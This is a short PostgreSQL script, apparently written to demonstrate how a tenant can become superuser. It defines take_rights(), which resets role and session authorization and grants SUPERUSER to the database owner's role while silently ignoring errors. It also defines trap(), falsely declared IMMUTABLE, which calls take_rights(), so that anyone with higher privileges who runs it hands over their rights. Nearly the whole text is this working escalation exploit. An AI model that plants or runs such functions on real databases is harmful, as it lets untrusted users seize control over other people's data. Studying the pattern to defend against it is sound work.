-- What a tenant may write to become superuser: wherever trap() is called by somebody with more rights than its owner, it
-- takes them. Code may call it immutable; what it calls may change things all the same.
CREATE FUNCTION public.take_rights() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
    EXECUTE format('ALTER ROLE %I SUPERUSER', (SELECT pg_get_userbyid(datdba) FROM pg_database
                                               WHERE datname = current_database()));
EXCEPTION WHEN OTHERS THEN NULL;
END $$;
CREATE FUNCTION public.trap() RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    PERFORM public.take_rights();
    RETURN true;
END $$;
